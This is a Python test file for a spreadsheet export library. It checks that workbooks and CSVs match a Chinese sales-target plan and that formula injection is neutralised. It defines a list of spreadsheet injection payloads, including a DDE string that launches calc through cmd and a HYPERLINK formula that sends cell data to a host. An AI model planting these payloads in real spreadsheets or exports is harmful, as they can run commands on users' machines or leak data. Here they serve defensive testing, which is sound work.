"""Workbooks and csv out: what was meant is in the file, and no text in it runs."""

import csv
import datetime as dt
import io
import shutil
import subprocess
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from luopan.sheets.cells import exact
from luopan.sheets.guard import guarded, risky
from luopan.sheets.plans import AMOUNT, SHARE, over
from luopan.sheets.read import open_book
from luopan.sheets.write import (
    CHECK,
    ColumnSpec,
    Formula,
    RowSpec,
    SheetSpec,
    Style,
    WorkbookPlan,
    cell_name,
    sheet_name,
    to_csv,
    to_xlsx,
)
from tests.cases import fewer

FEWER = fewer(8)

BOLD = Style(bold=True)


def plan() -> WorkbookPlan:
    """A small target sheet: two regions under a total, two months under a quarter."""
    at = (
        5  # first row of the table in Excel's counting: title, unit, gap, two head rows
    )

    def check(row: int) -> Formula:
        return Formula(f"=SUM(C{row}:D{row})-B{row}", 0)

    rows = [
        RowSpec(
            ["合计", 300, Decimal("100.5"), Decimal("199.5"), check(at + 1), 0.125],
            style=BOLD,
        ),
        RowSpec(
            ["华东", 200, 60.5, 139.5, check(at + 2), 0.5],
            level=1,
            styles=[Style(indent=1)],
        ),
        RowSpec(
            ["华北", 100, 40, 60, check(at + 3), -0.25],
            level=1,
            styles=[Style(indent=1)],
        ),
        RowSpec(
            [
                "核对",
                *(
                    Formula(f"=SUM({c}{at + 2}:{c}{at + 3})-{c}{at + 1}", 0)
                    for c in "BCD"
                ),
            ],
            style=CHECK,
        ),
    ]
    return WorkbookPlan(
        [
            SheetSpec(
                name="目标 2018",
                columns=[
                    ColumnSpec(24),
                    ColumnSpec(14, AMOUNT),
                    ColumnSpec(12, AMOUNT, level=1),
                    ColumnSpec(12, AMOUNT, level=1),
                    ColumnSpec(8, CHECK),
                    ColumnSpec(8, SHARE),
                ],
                title=["2018 年销售目标", "单位:元"],
                head=[
                    ["区域", "一季度", "", "", "核对", "增长"],
                    ["", "合计", "1 月", "2 月", "", ""],
                ],
                merged=[(0, 1, 0, 3)],
                rows=rows,
                remarks=["合计等于各行之和。"],
                comments=[(1, 1, "含补货 5 万")],
                frozen_columns=1,
                filters=True,
            )
        ],
        title="目标",
    )


def test_the_file_is_what_the_plan_says():
    page = openpyxl.load_workbook(io.BytesIO(to_xlsx(plan())))["目标 2018"]
    assert page["A1"].value == "2018 年销售目标"
    assert [c.value for c in page[6]] == [
        "合计",
        300,
        100.5,
        199.5,
        "=SUM(C6:D6)-B6",
        0.125,
    ]
    assert page.freeze_panes == "B6"
    assert page.row_dimensions[7].outlineLevel == 1
    assert page.column_dimensions["C"].outlineLevel == 1
    assert page.column_dimensions["A"].width == pytest.approx(24, abs=1)
    assert page["B6"].number_format == AMOUNT.number
    assert page["F6"].number_format == SHARE.number
    assert page["A6"].font.bold and not page["A7"].font.bold
    assert page["A7"].alignment.indent == 1
    assert "B4:D4" in [str(r) for r in page.merged_cells.ranges]
    assert page.page_setup.orientation == "landscape"
    assert page.sheet_properties.pageSetUpPr.fitToPage
    assert page.print_title_rows == "$4:$5"
    assert page.auto_filter.ref == "A5:F9"
    assert not page.sheet_properties.outlinePr.summaryBelow
    assert "补货" in page["B7"].comment.text


def test_results_of_formulas_are_stored():
    page = openpyxl.load_workbook(io.BytesIO(to_xlsx(plan())), data_only=True)[
        "目标 2018"
    ]
    assert [page[f"E{row}"].value for row in (6, 7, 8)] == [0, 0, 0]


def test_what_is_written_is_read_back():
    page = open_book(to_xlsx(plan()), "plan.xlsx").sheets[0]
    assert page.row(5) == (
        "合计",
        300,
        Decimal("100.5"),
        Decimal("199.5"),
        0,
        Decimal("0.125"),
    )
    assert page.row(9)[0] is None and page.row(10)[0] == "合计等于各行之和。"
    assert {n.code for n in page.notes} == {"merged"}


def test_the_same_plan_is_the_same_file():
    assert to_xlsx(plan()) == to_xlsx(plan())


def test_days_and_instants_show_as_such():
    rows = [
        RowSpec([dt.date(2018, 1, 2), dt.datetime(2018, 1, 2, 3, 4), True, None, ""])
    ]
    made = to_xlsx(
        WorkbookPlan([SheetSpec("a", [ColumnSpec(style=AMOUNT)] * 5, rows=rows)])
    )
    row = open_book(made).sheets[0].row(0)
    assert row == (dt.date(2018, 1, 2), dt.datetime(2018, 1, 2, 3, 4), True)


def test_sheet_names_are_made_fit():
    taken: set[str] = set()
    names = [
        sheet_name(t, taken)
        for t in ("目标/2018", "目标:2018", "x" * 40, "x" * 40, "", "History", "'a'")
    ]
    assert names == [
        "目标_2018",
        "目标_2018 (2)",
        "x" * 31,
        "x" * 27 + " (2)",
        "Sheet",
        "History_",
        "a",
    ]
    made = to_xlsx(
        WorkbookPlan([SheetSpec(n, [], rows=[RowSpec([1])]) for n in ("[a]", "[A]")])
    )
    assert [s.name for s in open_book(made).sheets] == ["_a_", "_A_ (2)"]


def test_styles_lie_over_one_another():
    assert over(AMOUNT, BOLD) == Style(number=AMOUNT.number, bold=True)
    assert over(AMOUNT, None) is AMOUNT
    assert cell_name(0, 0) == "A1" and cell_name(9, 27) == "AB10"


BODIES = ("1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", 'HYPERLINK("http://x/?"&A1,"y")')
LEADS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\t=", "\r=", "\n=", "\u00a0=", "\ufeff=", "\u200b=", "x\n=", "x\r\n@", "x\n =", '"=', "'=", "|", "%")  # fmt: skip
PAYLOADS = [lead + body for lead in LEADS for body in BODIES[:2]] + [
    "=" + b for b in BODIES[2:]
]


def _live(text: str) -> bool:
    """What some spreadsheet program would reckon: a formula sign after blanks and quotes, in any line."""
    lines = text.replace("\r", "\n").split("\n")
    bare = [line.lstrip(' \t\u00a0\u3000\ufeff\u200b"') for line in lines]
    return any(line[:1] in tuple("=+-@|%＝＋－＠") and line[:1] for line in bare)


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_payload_is_live_in_a_csv(payload):
    out = to_csv([payload], [[payload, -5, Decimal("-1.50")]]).decode("utf-8-sig")
    head, row = csv.reader(io.StringIO(out, newline=""))
    assert not _live(head[0]) and not _live(row[0])
    assert row[1:] == ["-5", "-1.50"]
    assert out.splitlines()[-1].endswith(",-5,-1.50")  # numbers without quotes
    assert risky(payload)


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_payload_is_live_in_a_workbook(payload):
    sheet = SheetSpec(
        payload[:20],
        [ColumnSpec()],
        [[payload]],
        [RowSpec([payload, -5])],
        title=[payload],
        remarks=[payload],
        comments=[(0, 0, payload)],
    )
    made = to_xlsx(WorkbookPlan([sheet], title=payload))
    page = openpyxl.load_workbook(io.BytesIO(made)).worksheets[0]
    cells = [page["A1"], page["A3"], page["A4"], page["A6"]]
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells)
    assert page["B4"].value == -5 and page["B4"].data_type == "n"
    assert not [c for row in page for c in row if c.data_type == "f"]


def test_harmless_texts_stay_as_they_are():
    for text in ("华东", "a-b", "——", "-", "a=b", "3%", "x@y.z", "", "甲\n乙"):
        assert guarded(text) == text
    assert to_csv(["地区"], [["华东"]]) == '\ufeff"地区"\r\n"华东"\r\n'.encode()


def test_what_no_file_can_hold_is_replaced():
    made = to_xlsx(
        WorkbookPlan(
            [SheetSpec("a", [], rows=[RowSpec(["a\0b\ud800c", "x" * 40_000])])]
        )
    )
    row = open_book(made).sheets[0].row(0)
    assert row[0] == "a\ufffdb\ufffdc" and len(row[1]) == 32_767
    assert "a\ufffdb" in to_csv(["h"], [["a\0b"]]).decode()


TEXT = st.text(
    st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=8
).filter(str.strip)
VALUE = st.one_of(
    TEXT,
    st.integers(-(10**14), 10**14),
    st.decimals(-(10**8), 10**8, places=4, allow_nan=False, allow_infinity=False),
    st.dates(dt.date(1900, 3, 1), dt.date(2199, 12, 31)),
    st.booleans(),
    st.none(),
)


def _same(value, back) -> bool:
    if isinstance(value, Decimal):
        return back == exact(float(value)) and abs(Decimal(back) - value) <= Decimal(
            "0.00001"
        )
    return (
        back == value
        and isinstance(back, type(value))
        or (value is None and back is None)
    )


@FEWER
@given(st.lists(TEXT, min_size=1, max_size=5))
def test_csv_out_and_in_is_the_same(texts):
    content = to_csv(["列", "n"], [[t, 1] for t in texts])
    column = open_book(content, "a.csv").sheets[0].columns[0]
    assert list(column)[1:] == [guarded(t) for t in texts]


def test_workbooks_out_and_in_are_the_same():
    """A few hundred values of every kind, in one file for speed."""
    from hypothesis import HealthCheck

    @settings(max_examples=25, suppress_health_check=list(HealthCheck))
    @given(st.lists(st.lists(VALUE, min_size=4, max_size=4), min_size=1, max_size=8))
    def check(rows):
        made = to_xlsx(
            WorkbookPlan(
                [
                    SheetSpec(
                        "a", [ColumnSpec()] * 4, rows=[RowSpec([*r, "."]) for r in rows]
                    )
                ]
            )
        )
        for row, back in zip(rows, open_book(made).sheets[0].rows(), strict=True):
            for value, read in zip(row, back[:4], strict=True):
                assert _same(value, read), (value, read)

    check()


@pytest.mark.slow
def test_libreoffice_reckons_every_check_to_zero(tmp_path):
    """Whatever we stored as a result, a program that reckons again finds 0 too."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    path = tmp_path / "plan.xlsx"
    path.write_bytes(to_xlsx(plan()))
    subprocess.run(
        [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "ods:calc8", "--outdir", str(tmp_path), str(path)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    subprocess.run(
        [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path / "back"), str(tmp_path / "plan.ods")],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    page = openpyxl.load_workbook(
        tmp_path / "back" / "plan.xlsx", data_only=True
    ).worksheets[0]
    assert [page[f"E{row}"].value for row in (6, 7, 8)] == [0, 0, 0]
    assert [page[f"{column}9"].value for column in "BCD"] == [0, 0, 0]


def test_a_title_stands_where_one_sees_it():
    """Hidden columns come first in a sheet of targets; a title in them would not show."""
    sheet = SheetSpec(
        name="计划",
        title=("2027 年计划",),
        head=(("id", "单元"),),
        columns=(ColumnSpec(width=5, hidden=True), ColumnSpec(width=20)),
        rows=(RowSpec(cells=(1, "华东")),),
        remarks=("各级合计严格相等。",),
    )
    made = dt.datetime(2027, 1, 4, tzinfo=dt.UTC)
    book = to_xlsx(WorkbookPlan(title="计划", created_at=made, sheets=(sheet,)))
    page = openpyxl.load_workbook(io.BytesIO(book)).worksheets[0]
    assert page["B1"].value == "2027 年计划"
    assert page["A1"].value is None
    assert page.cell(page.max_row, 2).value == "各级合计严格相等。"
